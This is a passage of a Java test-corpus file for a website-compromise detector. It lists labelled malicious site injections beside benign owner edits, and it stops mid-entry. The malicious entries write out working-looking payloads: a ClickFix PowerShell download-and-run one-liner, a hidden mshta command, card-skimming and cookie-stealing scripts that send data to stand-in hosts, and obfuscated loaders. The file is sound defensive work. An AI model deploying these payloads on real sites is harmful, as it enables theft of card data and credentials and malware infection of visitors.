package jp.mamori.checks.web.heldout;

import static jp.mamori.checks.web.heldout.BlindCorpus.BRAND_COPY;
import static jp.mamori.checks.web.heldout.BlindCorpus.C;
import static jp.mamori.checks.web.heldout.BlindCorpus.E;
import static jp.mamori.checks.web.heldout.BlindCorpus.EN_SPAM;
import static jp.mamori.checks.web.heldout.BlindCorpus.G;
import static jp.mamori.checks.web.heldout.BlindCorpus.H;
import static jp.mamori.checks.web.heldout.BlindCorpus.IOC_DOMAINS;
import static jp.mamori.checks.web.heldout.BlindCorpus.JP_CASINO;
import static jp.mamori.checks.web.heldout.BlindCorpus.K;
import static jp.mamori.checks.web.heldout.BlindCorpus.L;
import static jp.mamori.checks.web.heldout.BlindCorpus.S;
import static jp.mamori.checks.web.heldout.BlindCorpus.T;
import static jp.mamori.checks.web.heldout.BlindCorpus.W;
import static jp.mamori.checks.web.heldout.BlindCorpus.Y;
import static jp.mamori.checks.web.heldout.BlindCorpus.fromSearch;
import static jp.mamori.checks.web.heldout.BlindCorpus.kwPage;
import static jp.mamori.checks.web.heldout.BlindCorpus.loader;
import static jp.mamori.checks.web.heldout.BlindCorpus.phone;
import static jp.mamori.checks.web.heldout.HeldOutVariant.bad;
import static jp.mamori.checks.web.heldout.HeldOutVariant.good;
import static jp.mamori.checks.web.site.Corpus.b64;

import java.util.ArrayList;
import java.util.List;
import jp.mamori.checks.web.site.TestSite.Reply;

/**
 * The fourth blind batch {@code [fresh6]}: mostly the COMMON forms that 2024-2026 incident write-ups (Sucuri,
 * Wordfence, JPCERT/CC) describe for small Japanese WordPress and static sites — a plain {@code <script src>} from a
 * newly registered domain, fake CAPTCHA/ClickFix, SocGholish and ClearFake loaders, Magecart on WooCommerce, the
 * Japanese keyword hack with sitemaps, cloaked redirects for search visitors, malicious plugins' front-end files,
 * {@code .htaccess} redirects, PHP output after {@code </html>}, defacements — and the edits owners make every month.
 * Written and measured once before any detector change for it.
 */
final class Fresh6 {
  private Fresh6() {}

  static String kwSitemap(String prefix, int n) {
    StringBuilder sm = new StringBuilder("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<urlset xmlns=\"http://www.sitemaps.org/"
        + "schemas/sitemap/0.9\">");
    for (int i = 1; i <= n; i++) {
      sm.append("<url><loc>{{origin}}").append(prefix).append(i).append("</loc><lastmod>2026-11-30</lastmod></url>\n");
    }
    return sm.append("</urlset>").toString();
  }

  static List<HeldOutVariant> compromises() {
    List<HeldOutVariant> v = new ArrayList<>();

    // ---- injected <script src> from newly registered domains (the most common single form)
    v.add(bad(H, "origin", "[fresh6] <script src> from a new .top domain posing as jsDelivr, in the head of every page", e ->
        e.site.insertBefore("*", "</head>", "<script src=\"https://cdn-jsdelivr.top/npm/jquery@3.7.1/dist/jquery.min.js\">"
            + "</script>\n")));
    v.add(bad(T, "origin", "[fresh6] async <script src> from a new analytics-sounding domain before </body>", e ->
        e.site.insertBefore("*", "</body>", "<script async src=\"https://stat.wp-analytic.xyz/track.js?v=2.1\"></script>\n")));
    v.add(bad(E, "origin", "[fresh6] gtag look-alike script URL on a new .online domain", e -> e.site.insertBefore("*",
        "</head>", "<script async src=\"https://gtm-analytics.online/gtag/js?id=G-7YH2KQ\"></script>\n")));
    v.add(bad(L, "origin", "[fresh6] protocol-relative script from a bare IP address", e -> e.site.insertBefore("*",
        "</body>", "<script type=\"text/javascript\" src=\"//203.0.113.45/js/jquery.min.js\"></script>\n")));
    v.add(bad(S, "origin", "[fresh6] counter script from an FC2 look-alike (Shift_JIS page)", e -> e.site.insertBefore("*",
        "</body>", "<script type=\"text/javascript\" src=\"http://counter-fc2.net/counter.php?id=38211527\"></script>\n")));
    v.add(bad(W, "origin", "[fresh6] stylesheet from a new origin in the head", e -> e.site.insertBefore("*", "</head>",
        "<link rel='stylesheet' id='wp-fonts-local-css' href='https://wp-fonts-cdn.com/css/noto.css?ver=6.7.2' media='all' />\n")));

    // ---- SocGholish / ClearFake / fake updates
    v.add(bad(G, "fake-update", "[fresh6] SocGholish-style async loader with a random subdomain and a data-id", e ->
        e.site.insertBefore("*", "</head>", "<script>;(function(d,s){var n=d.createElement(s);n.async=true;n.setAttribute("
            + "'data-id','k92bq');n.src='https://'+'trademark.'+'kazoku-photo'+'.com/'+'report?r='+encodeURIComponent(d."
            + "referrer);var f=d.getElementsByTagName(s)[0];f.parentNode.insertBefore(n,f)})(document,'script');</script>\n")));
    v.add(bad(L, "fake-update", "[fresh6] ClearFake/EtherHiding: code read from a BSC contract and run with eval(atob())", e ->
        e.site.insertBefore("*", "</body>", "<script>(async function(){try{var r=await fetch('https://bsc-testnet.public"
            + "node.com',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({jsonrpc:'2.0',id:1,"
            + "method:'eth_call',params:[{to:'0x7f36D9292e7c70A204faCC2d255475A861487c60',data:'0x6d4ce63c'},'latest']})});"
            + "var j=await r.json();var h=j.result.slice(130).replace(/00+$/,'');var t='';for(var i=0;i<h.length;i+=2)t+="
            + "String.fromCharCode(parseInt(h.substr(i,2),16));eval(atob(t))}catch(e){}})();</script>\n")));
    v.add(bad(S, "fake-update", "[fresh6] whole page replaced by a 'Chrome の更新' page with an off-site .zip", e ->
        e.site.override = HeldOutCorpus.home("<!DOCTYPE html><html lang=\"ja\"><head><meta charset=\"UTF-8\"><title>Google "
            + "Chrome を更新してください</title></head><body style=\"font-family:sans-serif;text-align:center;padding:60px\"><h1>"
            + "お使いの Chrome は最新ではありません</h1><p>このページを表示するには、最新バージョンへの更新が必要です。</p><a href=\""
            + "https://chrome-update-jp.com/dl/Chrome.Update.zip\" style=\"background:#1a73e8;color:#fff;padding:12px 30px\">"
            + "更新する</a></body></html>")));
    v.add(bad(T, "fake-update", "[fresh6] fake CAPTCHA with clipboard.writeText of a PowerShell one-liner, English steps", e ->
        e.site.insertBefore("*", "</body>", "<div id=\"cf-ov\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;"
            + "background:rgba(0,0,0,.6);z-index:2147483647\"><div style=\"background:#fff;margin:15% auto;width:420px;padding:24px\">"
            + "<p><label><input type=\"checkbox\" id=\"cf-chk\"> I'm not a robot</label></p><div id=\"cf-steps\" style=\"display:"
            + "none\">Verification steps:<br>1. Press Windows Button + R<br>2. Press CTRL + V<br>3. Press Enter</div></div></div>"
            + "<script>document.getElementById('cf-chk').addEventListener('click',function(){navigator.clipboard.writeText("
            + "'powershell -w hidden -c \"iwr https://captcha-check-jp.com/v.txt -UseBasicParsing|iex\" # I am not a robot - "
            + "Cloudflare ID 8831');document.getElementById('cf-steps').style.display='block'});</script>\n")));
    v.add(bad(W, "fake-update", "[fresh6] fake CAPTCHA loaded from a new origin only (the overlay is built by that script)",
        e -> e.site.insertBefore("*", "</head>", "<script src=\"https://recaptcha-verify-cloud.com/captcha/v3/api.js\" defer>"
            + "</script>\n")));
    v.add(bad(H, "fake-update", "[fresh6] ClickFix with an mshta command kept in base64 and copied on click", e ->
        e.site.insertBefore("*", "<div class=\"source-org copyright\">", "<div id=\"vr\" style=\"position:fixed;inset:0;"
            + "background:#fff;z-index:99999;text-align:center;padding-top:20vh\"><h2>人間であることを確認します</h2><button "
            + "id=\"vr-b\">確認</button><p>Win + R を押して、Ctrl + V で貼り付け、Enter を押してください。</p></div><script>"
            + "document.getElementById('vr-b').onclick=function(){navigator.clipboard.writeText(atob('" + b64(
                "mshta https://hinata-verify.com/check.hta # ✔ I am not a robot: reCAPTCHA ID 2291") + "'))};</script>")));

    // ---- Magecart on WooCommerce and EC-CUBE
    v.add(bad(K, "skimmer", "[fresh6] skimmer script from a new origin on the cart page only", e -> e.site.insertBefore(
        "/cart/", "</body>", "<script src=\"https://woocommerce-cdn-js.com/assets/js/frontend/checkout.min.js\"></script>\n")));
    v.add(bad(K, "skimmer", "[fresh6] jQuery skimmer serialising the checkout form to a new origin with $.ajax", e ->
        e.site.insertBefore("*", "</body>", "<script>jQuery(function($){$(document).on('click','#place_order, button[name="
            + "\"woocommerce_checkout_place_order\"]',function(){var d=$('form.checkout, form.woocommerce-cart-form').serialize();"
            + "$.ajax({url:'https://wc-stats-api.com/collect',type:'POST',data:{d:btoa(unescape(encodeURIComponent(d)))}})})});"
            + "</script>\n")));
    v.add(bad(K, "skimmer", "[fresh6] card fields sent with new Image() to an atob() URL, appended to woocommerce.min.js", e ->
        e.site.append("/wp-content/plugins/woocommerce/assets/js/frontend/woocommerce.min.js", "\n!function(){var u=atob('"
            + b64("https://woo-img-cdn.com/p.gif?d=") + "');window.addEventListener('blur',function(){var f=document.querySelect"
            + "orAll('input[name*=card],input[id*=cc-],input[name*=billing]'),o=[];f.forEach(function(i){o.push(i.name+'='+i"
            + ".value)});if(o.length){(new Image).src=u+btoa(o.join('&'))}},true)}();\n")));
    v.add(bad(E, "skimmer", "[fresh6] fake card-payment form injected on the EC-CUBE cart page, posting off-site", e ->
        e.site.insertBefore("/cart", "</body>", "<div class=\"ec-cartRole\"><h3>クレジットカード情報の入力</h3><form action=\"https://"
            + "secure-card-gateway.net/pay\" method=\"post\"><input name=\"cc_number\" placeholder=\"カード番号\" autocomplete=\""
            + "cc-number\"><input name=\"cc_exp\" placeholder=\"有効期限 (MM/YY)\"><input name=\"cc_cvv\" placeholder=\"セキュリティ"
            + "コード\"><button type=\"submit\">お支払いへ進む</button></form></div>\n")));
    v.add(bad(K, "skimmer", "[fresh6] skimmer posing as Google Tag Manager on a look-alike host", e -> e.site.insertBefore("*",
        "</head>", "<script async src=\"https://www.googletagmanager.com.gtm-cdn.net/gtm.js?id=GTM-K7X2PQ\"></script>\n")));

    // ---- Japanese keyword hack
    v.add(bad(K, "keyword-hack", "[fresh6] robots.txt gains three sitemaps of generated knock-off pages", e -> {
      e.site.append("/robots.txt", "\nSitemap: {{origin}}/sitemap-jp1.xml\nSitemap: {{origin}}/sitemap-jp2.xml\nSitemap: "
          + "{{origin}}/sitemap-jp3.xml\n");
      for (int i = 1; i <= 3; i++) {
        e.site.put("/sitemap-jp" + i + ".xml", kwSitemap("/?p=jp" + i + "-", 1000));
      }
      e.site.override = r -> r.query() != null && r.query().startsWith("p=jp") ? Reply.html(kwPage(e, r.query().length()))
          : null;
    }));
    v.add(bad(W, "keyword-hack", "[fresh6] Googlebot gets a knock-off shop title and description on the home page", e -> {
      HeldOutSite bot = HeldOutCorpus.copy(e);
      bot.replace("/", "<title>川越のリフォーム・注文住宅なら株式会社みどり工務店</title>", "<title>ブランド コピー 激安 通販 "
          + "スーパーコピー N級品 専門店</title>");
      bot.replace("/", "地域密着で50年。無料お見積り受付中。", "ルイヴィトン コピー、ロレックス スーパーコピー 時計、シャネル 偽物 "
          + "激安 通販。");
      e.site.override = r -> r.isBot() && r.path().equals("/") ? bot.serve(r) : null;
    }));
    v.add(bad(T, "keyword-hack", "[fresh6] Googlebot gets a whole Japanese spam page instead of the home page", e ->
        e.site.override = r -> r.isBot() && r.path().equals("/") ? Reply.html(kwPage(e, 7)) : null));
    v.add(bad(H, "keyword-hack", "[fresh6] sitemap index gains a child listing 2,000 ?cid= pages served to Googlebot only",
        e -> {
          e.site.put("/sitemap.xml", e.site.text("/sitemap.xml").replace("</sitemapindex>", "<sitemap><loc>{{origin}}/"
              + "sitemap-goods.xml</loc><lastmod>2026-11-30T02:11:09+00:00</lastmod></sitemap></sitemapindex>"));
          e.site.put("/sitemap-goods.xml", kwSitemap("/?cid=", 2000));
          e.site.override = r -> r.query() != null && r.query().startsWith("cid=") && r.isBot()
              ? Reply.html(kwPage(e, r.query().length())) : null;
        }));

    // ---- cloaked redirects (.htaccess and PHP)
    v.add(bad(E, "redirect", "[fresh6] .htaccess 302 on the home page for visitors from a search engine", e ->
        e.site.override = r -> r.path().equals("/") && fromSearch(r) ? Reply.redirect(302, "https://kyoto-gift-navi.com/?"
            + "ref=sfd") : null));
    v.add(bad(H, "redirect", "[fresh6] .htaccess 302 for smartphones on every page", e -> e.site.override = r ->
        phone(r) && !r.path().endsWith(".js") && !r.path().endsWith(".css") ? Reply.redirect(302,
            "https://health-supple-jp.com/lp/?c=hn") : null));
    v.add(bad(Y, "redirect", "[fresh6] home page 301 to a spam domain for everyone", e -> e.site.override = r ->
        r.path().equals("/") ? Reply.redirect(301, "http://kaikei-soudan-rank.com/") : null));
    v.add(bad(C, "redirect", "[fresh6] search-referrer JavaScript redirect in the head", e -> e.site.insertBefore("*",
        "</head>", "<script>var r=document.referrer;if(r.indexOf('google.')>-1||r.indexOf('yahoo.')>-1||r.indexOf('bing.')>-1)"
            + "{window.location.href='https://kamakura-cafe-guide.net/?from='+encodeURIComponent(location.hostname)}</script>\n")));
    v.add(bad(G, "redirect", "[fresh6] once-a-day cookie-gated redirect appended to common.js", e -> e.site.append(
        "/common/js/common.js", "\n;(function(){if(document.cookie.indexOf('_vdt=')<0){document.cookie='_vdt=1;path=/;max-age="
            + "86400';setTimeout(function(){window.location.href='https://mfg-koubo-navi.com/?c='+Math.random()},1500)}})();\n")));
    v.add(bad(W, "redirect", "[fresh6] contact page 301 to an off-site look-alike contact form", e -> e.site.override = r ->
        r.path().startsWith("/contact") ? Reply.redirect(301, "https://midori-koumuten-form.com/contact/") : null));

    // ---- PHP output, malicious plugins
    v.add(bad(L, "obfuscation", "[fresh6] PHP-echoed document.write(unescape('%3Cscript…')) after </html>", e -> e.site.append(
        "/", "\n<script>document.write(unescape('%3Cscript%20src%3D%22https%3A%2F%2Fsalon-stat-js.com%2Fl.js%22%3E%3C%2Fscript"
            + "%3E'));</script>\n")));
    v.add(bad(C, "obfuscation", "[fresh6] eval(atob()) of a loader in the head", e -> e.site.insertBefore("*", "</head>",
        "<script type=\"text/javascript\">eval(atob('" + b64(loader("https://wix-static-cdn.net/s.js")) + "'));</script>\n")));
    v.add(bad(H, "plugin", "[fresh6] a malicious plugin's front-end file building its loader from a config object", e -> {
      e.site.put("/wp-content/plugins/wp-cache-helper/assets/front.js", "(function(){var c=window.wpch_cfg||{};if(!c.u)return;"
          + "var s=document.createElement('script');s.src=c.u+'?t='+Date.now();document.head.appendChild(s)})();\n");
      e.site.insertBefore("*", "</body>", "<script id=\"wpch-js-extra\">var wpch_cfg={\"u\":\"https:\\/\\/wpcache-helper-"
          + "stats.com\\/c.js\"};</script>\n<script src=\"{{origin}}/wp-content/plugins/wp-cache-helper/assets/front.js?ver"
          + "=1.0.2\" id=\"wpch-js\"></script>\n");
    }));
    v.add(bad(T, "plugin", "[fresh6] a fake plugin's inline script: String.fromCharCode loader with junk variable names",
        e -> e.site.insertBefore("*", "</body>", "<script>var qwmx=String.fromCharCode(" + jp.mamori.checks.web.site.Corpus.charCodes(
            "https://swell-opt-cdn.com/o.js") + ");var zzr=document.createElement('script');zzr.src=qwmx;document.body."
            + "appendChild(zzr);</script>\n")));
    v.add(bad(W, "plugin", "[fresh6] a new plugin directory's script loaded on every page, posting the visitor to a new origin",
        e -> {
          e.site.put("/wp-content/plugins/wp-security-patch/js/wsp.js", "jQuery(function($){$.post('https://wsp-telemetry"
              + ".com/in',{h:location.href,c:document.cookie,u:navigator.userAgent})});\n");
          e.site.insertBefore("*", "</body>", "<script src=\"{{origin}}/wp-content/plugins/wp-security-patch/js/wsp.js?ver"
              + "=2.3\"></script>\n");
        }));

    // ---- defacements
    v.add(bad(C, "defacement", "[fresh6] home replaced by 'Hacked by' page in English", e -> e.site.override = HeldOutCorpus.home(
        HeldOutCorpus.deface("Hacked By Mr.Spongebob", "<h1>Hacked By Mr.Spongebob</h1><p>Your site has been hacked. Patch "
            + "your security!</p><p>Greetz: BD Cyber Army</p>", "en"))));
    v.add(bad(K, "defacement", "[fresh6] a 'Hacked by' banner inserted at the top of the home page, the rest intact", e ->
        e.site.replace("/", "<body ", "<div style=\"background:#000;color:red;text-align:center;font-size:28px;padding:20px\">"
            + "Hacked by ./Anon_Xploit — security is just an illusion</div><body ")));
    v.add(bad(Y, "defacement", "[fresh6] Shift_JIS home replaced by a Turkish hacker page", e -> e.site.override =
        HeldOutCorpus.home(HeldOutCorpus.deface("HaCkEd By AyyildizTim", "<h1>HaCkEd By AyyildizTim</h1><p>Siteniz hacklendi."
            + " Güvenlik açığınızı kapatın.</p><p>Türk Hack Team</p>", "tr"))));
    v.add(bad(G, "defacement", "[fresh6] home replaced by a political page in Arabic with no hacker phrase", e ->
        e.site.override = HeldOutCorpus.home("<!DOCTYPE html><html lang=\"ar\" dir=\"rtl\"><head><meta charset=\"UTF-8\"><title>"
            + "فلسطين حرة</title></head><body style=\"background:#000;color:#fff;text-align:center\"><h1>فلسطين حرة</h1><p>"
            + "لن ننسى ولن نسامح. رسالتنا إلى العالم: أوقفوا الحرب الآن.</p><img src=\"https://i.ibb.co/x1y2z3/flag.gif\"></body>"
            + "</html>")));

    // ---- hidden iframes
    v.add(bad(T, "iframe", "[fresh6] 1x1 iframe pushed off-screen before </body>", e -> e.site.insertBefore("*", "</body>",
        "<iframe src=\"https://kensetsu-ad-track.com/f.html\" style=\"width:1px;height:1px;position:absolute;left:-200px;"
            + "top:-200px;border:0\"></iframe>\n")));
    v.add(bad(W, "iframe", "[fresh6] iframe inside a display:none div in the footer", e -> e.site.insertBefore("*",
        "<div class=\"container site-footer-copyright\">", "<div style=\"display:none\"><iframe src=\"https://reform-click"
            + "-track.net/i.php?s=mk\" width=\"300\" height=\"250\"></iframe></div>")));

    // ---- hidden SEO spam
    v.add(bad(L, "seo-spam", "[fresh6] casino links in a display:none div in the footer", e -> e.site.insertBefore("*",
        "<div class=\"copyright\">", "<div style=\"display:none\">" + JP_CASINO + "</div>")));
    v.add(bad(S, "seo-spam", "[fresh6] PHP-echoed brand links positioned off-screen before <html>", e -> e.site.replace("/",
        "<html", "<div style=\"position:absolute;left:-9999px;top:-9999px\">" + BRAND_COPY + "</div>\n<html")));
    v.add(bad(Y, "seo-spam", "[fresh6] pharma links with font-size:0 in the footer (Shift_JIS)", e -> e.site.insertBefore("*",
        "</BODY>", "<DIV style=\"font-size:0;line-height:0\">" + EN_SPAM + "</DIV>\n")));
    v.add(bad(E, "seo-spam", "[fresh6] a new same-site page of knock-off links, linked from the footer in tiny text", e -> {
      StringBuilder links = new StringBuilder();
      for (int n = 1; n <= 30; n++) {
        links.append("<li><a href=\"https://www.kopi-brand-jp.com/item/").append(n).append("/\">ルイヴィトン 財布 コピー 激安 ")
            .append(n).append("</a></li>");
      }
      e.site.put("/help/partner", "<!DOCTYPE html><html lang=\"ja\"><head><meta charset=\"UTF-8\"><title>ブランド コピー 激安 通販"
          + "</title></head><body><ul>" + links + "</ul></body></html>");
      e.site.insertBefore("*", "<!-- ▲フッター -->", "<a href=\"{{origin}}/help/partner\" style=\"font-size:1px;color:#fff\">"
          + "partner</a>");
    }));

    // ---- IoC list
    v.add(bad(H, "ioc", "[fresh6] IoC domain in an @import appended to the child theme's style.css", e -> e.site.append(
        "/wp-content/themes/cocoon-child-master/style.css", "\n@import url(\"https://cdn." + IOC_DOMAINS.get(2)
            + "/css/c.css\");\n")));
    v.add(bad(T, "ioc", "[fresh6] IoC domain as a background image URL in the child theme's style.css", e -> e.site.append(
        "/wp-content/themes/swell_child/style.css", "\n.l-footer{background-image:url(//img." + IOC_DOMAINS.get(0)
            + "/bg.png)}\n")));
    v.add(bad(K, "ioc", "[fresh6] IoC domain as a plain link in the footer", e -> e.site.insertBefore("*", "</body>",
        "<a href=\"https://shop." + IOC_DOMAINS.get(1) + "/\" rel=\"nofollow\">sponsor</a>\n")));

    // ---- off-site forms
    v.add(bad(W, "form", "[fresh6] Contact Form 7 form's action changed to another site", e -> e.site.replace("/contact/",
        "<form action=\"/contact/#wpcf7-f5-p20-o1\"", "<form action=\"https://cf7-submit-forms.com/contact/#wpcf7-f5-p20-o1\"")));

    // ---- DNS
    v.add(bad(C, "dns", "[fresh6] name servers moved to another provider", e -> e.resolver.record(e.domain, "NS",
        "ns1.dnsowl-cloud.com.", "ns2.dnsowl-cloud.com.")));
    v.add(bad(H, "dns", "[fresh6] MX moved to an unknown relay", e -> e.resolver.record(e.domain, "MX",
        "10 mx.mailrelay-secure.net.")));
    return v;
  }

  static List<HeldOutVariant> benign() {
    List<HeldOutVariant> v = new ArrayList<>();
    v.add(good(K, "plugin", "[fresh6] YITH wishlist plugin with its own same-site script and stylesheet", e -> {
      e.site.put("/wp-content/plugins/yith-woocommerce-wishlist/assets/js/jquery.yith-wcwl.min.js", "jQuery(function(t){t("
          + "document).on('click','.add_to_wishlist',function(e){e.preventDefault();var a=t(this);t.post(yith_wcwl_l10n.ajax_url,"
          + "{action:'add_to_wishlist',add_to_wishlist:a.data('product-id')},function(r){a.closest('.yith-wcwl-add-to-wishlist')"
          + ".addClass('exists')})})});\n");
      e.site.put("/wp-content/plugins/yith-woocommerce-wishlist/assets/css/style.css", ".yith-wcwl-add-to-wishlist{margin:"
          + "8px 0}.yith-wcwl-add-to-wishlist a{font-size:13px}\n");
      e.site.insertBefore("*", "</head>", "<link rel='stylesheet' id='yith-wcwl-main-css' href='{{origin}}/wp-content/"
          + "plugins/yith-woocommerce-wishlist/assets/css/style.css?ver=4.0.1' media='all' />\n");
      e.site.insertBefore("*", "</body>", "<script id=\"jquery-yith-wcwl-js-extra\">var yith_wcwl_l10n={\"ajax_url\":\""
          + "\\/wp-admin\\/admin-ajax.php\"};</script>\n<script src=\"{{origin}}/wp-content/plugins/yith-woocommerce-wishlist/"
          + "assets/js/jquery.yith-wcwl.min.js?ver=4.0.1\"></script>\n");
    }));
    v.add(good(H, "cms", "[fresh6] theme update: footer class names and asset versions change", e -> {
      e.site.replace("*", "source-org copyright", "footer-copyright source-org");
      e.site.replace("*", "ver=6.6.2&amp;fver=20240801055031", "ver=6.7.1&amp;fver=20241121093012");
    }));
    v.add(good(T, "content", "[fresh6] a new news post linked from the news list", e -> {
      e.site.putLike("/news/year-end-2026/", "/news/safety-award-2026/", "<main", "</main>", " id=\"main_content\" class="
          + "\"l-mainContent l-article\"><article><h1 class=\"c-postTitle__ttl\">年末年始休業のお知らせ</h1><p>誠に勝手ながら、"
          + "12月27日（土）から1月4日（日）まで休業いたします。</p></article>");
      e.site.insertBefore("/news/", "<li class=\"p-postList__item\">", "<li class=\"p-postList__item\"><a href=\"{{origin}}"
          + "/news/year-end-2026/\">年末年始休業のお知らせ</a></li>");
    }));
    v.add(good(W, "embed", "[fresh6] YouTube embed through youtube-nocookie.com on the works page", e -> e.site.insertBefore(
        "/works/", "</div><!-- [ /.main-section ] -->", "<iframe width=\"560\" height=\"315\" src=\"https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?rel"
            + "=0\" title=\"施工事例動画\" frameborder=\"0\" allow=\"accelerometer; encrypted-media; picture-in-picture\" "
            + "allowfullscreen></iframe>")));
    v.add(good(E, "tags", "[fresh6] GA4 gtag added to the EC-CUBE layout", e -> e.site.insertBefore("*", "</head>",
        "<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-SF2K8Q1M3X\"></script><script>window.dataLayer="
            + "window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag('js',new Date());gtag('config',"
            + "'G-SF2K8Q1M3X');</script>\n")));
    v.add(good(L, "tags", "[fresh6] reCAPTCHA v3 on every page (Elementor form)", e -> e.site.insertBefore("*", "</body>",
        "<script src=\"https://www.google.com/recaptcha/api.js?render=6LcQ1xEqAAAAAAbCdEf0123456789lumiereSalon\"></script>\n")));
    v.add(good(G, "tags", "[fresh6] Tawk.to chat widget", e -> e.site.insertBefore("*", "</body>", "<script type=\"text/"
        + "javascript\">var Tawk_API=Tawk_API||{},Tawk_LoadStart=new Date();(function(){var s1=document.createElement(\"script\")"
        + ",s0=document.getElementsByTagName(\"script\")[0];s1.async=true;s1.src='https://embed.tawk.to/6745a1b2c3d4e5f6a7b8c9d0"
        + "/1idefault';s1.charset='UTF-8';s1.setAttribute('crossorigin','*');s0.parentNode.insertBefore(s1,s0);})();</script>\n")));
    v.add(good(W, "tags", "[fresh6] Channel Talk chat widget", e -> e.site.insertBefore("*", "</body>", "<script>(function()"
        + "{var w=window;if(w.ChannelIO){return}var ch=function(){ch.c(arguments)};ch.q=[];ch.c=function(args){ch.q.push(args)};"
        + "w.ChannelIO=ch;function l(){var s=document.createElement('script');s.type='text/javascript';s.async=true;s.src="
        + "'https://cdn.channel.io/plugin/ch-plugin-web.js';var x=document.getElementsByTagName('script')[0];x.parentNode."
        + "insertBefore(s,x)}l()})();ChannelIO('boot',{\"pluginKey\":\"0a1b2c3d-midori\"});</script>\n")));
    v.add(good(L, "embed", "[fresh6] Hot Pepper Beauty booking link and banner", e -> e.site.insertBefore("*",
        "<div class=\"copyright\">", "<p><a href=\"https://beauty.hotpepper.jp/slnH000123456/\"><img src=\"https://imgbp.hotp.jp"
            + "/magazine/media/banner/hpb_banner_234x60.png\" alt=\"ホットペッパービューティーで予約\"></a></p>")));
    v.add(good(H, "embed", "[fresh6] EPARK clinic booking button", e -> e.site.insertBefore("/first/", "</main>",
        "<p><a href=\"https://epark.jp/medical/detail/123456/\" target=\"_blank\" rel=\"noopener\"><img src=\"https://"
            + "img.epark.jp/common/btn_reserve.png\" alt=\"EPARKでWeb予約\"></a></p>")));
    v.add(good(C, "embed", "[fresh6] TORETA reservation widget on the contact page", e -> e.site.insertBefore("/contact",
        "<div id=\"comp-form01\"", "<iframe src=\"https://yoyaku.toreta.in/cafe-komorebi/\" width=\"100%\" height=\"700\" "
            + "frameborder=\"0\" title=\"ご予約\"></iframe>")));
    v.add(good(S, "embed", "[fresh6] Airリザーブ booking link on the reservation page (Shift_JIS)", e -> e.site.insertBefore(
        "/yoyaku.html", "</body>", "<p><a href=\"https://airrsv.net/yamabuki-so/calendar\">24時間ネット予約（Airリザーブ）</a></p>\n")));
    v.add(good(H, "font", "[fresh6] Adobe Fonts kit added", e -> e.site.insertBefore("*", "</head>", "<link rel=\"stylesheet\" "
        + "href=\"https://use.typekit.net/hnt4qzk.css\">\n")));
    v.add(good(G, "font", "[fresh6] FONTPLUS Japanese web fonts", e -> e.site.insertBefore("*", "</head>", "<script "
        + "type=\"text/javascript\" src=\"//webfont.fontplus.jp/accessor/script/fontplus.js?AbCdEfGh1234~&box=kogane&aa=1&ab=2\" "
        + "charset=\"utf-8\"></script>\n")));
    v.add(good(T, "font", "[fresh6] Morisawa TypeSquare web fonts", e -> e.site.insertBefore("*", "</head>", "<script "
        + "type=\"text/javascript\" src=\"//typesquare.com/3/tsst/script/ja/typesquare.js?6745abcdef01234567890abc\" charset="
        + "\"utf-8\"></script>\n")));
    v.add(good(C, "tags", "[fresh6] Google AdSense auto ads", e -> e.site.insertBefore("*", "</head>", "<script async src="
        + "\"https://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js?client=ca-pub-1234567890123456\" crossorigin="
        + "\"anonymous\"></script>\n")));
    v.add(good(K, "tags", "[fresh6] Meta Pixel with its noscript image", e -> e.site.insertBefore("*", "</head>", "<script>!"
        + "function(f,b,e,v,n,t,s){if(f.fbq)return;n=f.fbq=function(){n.callMethod?n.callMethod.apply(n,arguments):n.queue.push"
        + "(arguments)};if(!f._fbq)f._fbq=n;n.push=n;n.loaded=!0;n.version='2.0';n.queue=[];t=b.createElement(e);t.async=!0;t.src"
        + "=v;s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}(window,document,'script','https://connect.facebook"
        + ".net/en_US/fbevents.js');fbq('init','1234567890123456');fbq('track','PageView');</script><noscript><img height=\"1\" "
        + "width=\"1\" style=\"display:none\" src=\"https://www.facebook.com/tr?id=1234567890123456&ev=PageView&noscript=1\"/>"
        + "</noscript>\n")));
    v.add(good(L, "tags", "[fresh6] LINE Tag for ads conversions", e -> e.site.insertBefore("*", "</head>", "<script>(function"
        + "(g,d,o){g._ltq=g._ltq||[];g._lt=g._lt||function(){g._ltq.push(arguments)};var h=location.protocol==='https:'?'https:"
        + "//d.line-scdn.net':'http://d.line-cdn.net';var s=d.createElement('script');s.async=1;s.src=o||h+'/n/line_tag/public/"
        + "release/v1/lt.js';var t=d.getElementsByTagName('script')[0];t.parentNode.insertBefore(s,t);})(window, document);"
        + "_lt('init',{customerType:'account',tagId:'abcd1234-lumi'});_lt('send','pv',['abcd1234-lumi']);</script>\n")));
    v.add(good(Y, "embed", "[fresh6] Google Maps iframe on the access page (Shift_JIS)", e -> e.site.insertBefore(
        "/access.html", "</BODY>", "<IFRAME src=\"https://www.google.com/maps/embed?pb=!1m18!1m12!1m3!1d3284.1!2d133.77!3d34.59"
            + "\" width=\"600\" height=\"450\" style=\"border:0;\" allowfullscreen=\"\" loading=\"lazy\"></IFRAME>\n")));
    v.add(good(E, "embed", "[fresh6] Instagram post embed on the about page", e -> e.site.insertBefore("/help/about", "</body>",
        "<blockquote class=\"instagram-media\" data-instgrm-permalink=\"https://www.instagram.com/p/C9xYz12AbCd/\" data-instgrm-"
            + "version=\"14\"></blockquote><script async src=\"//www.instagram.com/embed.js\"></script>\n")));
    v.add(good(T, "embed", "[fresh6] X (Twitter) timeline on the news page", e -> e.site.insertBefore("/news/", "</body>",
        "<a class=\"twitter-timeline\" data-height=\"500\" href=\"https://twitter.com/tsubasa_kensetsu\">Posts by tsubasa</a>"
            + "<script async src=\"https://platform.twitter.com/widgets.js\" charset=\"utf-8\"></script>\n")));
    v.add(good(K, "content", "[fresh6] prices raised and a product renamed", e -> {
      e.site.replace("*", "680<span", "720<span");
      e.site.replace("*", "十勝あんぱん（5個入）", "十勝つぶあんぱん（5個入）");
    }));
    v.add(good(G, "content", "[fresh6] campaign modal hidden until a button is pressed, linking within the site", e ->
        e.site.insertBefore("*", "<p class=\"copyright\">", "<div id=\"campaign\" class=\"modal\" style=\"display:none\"><h3>"
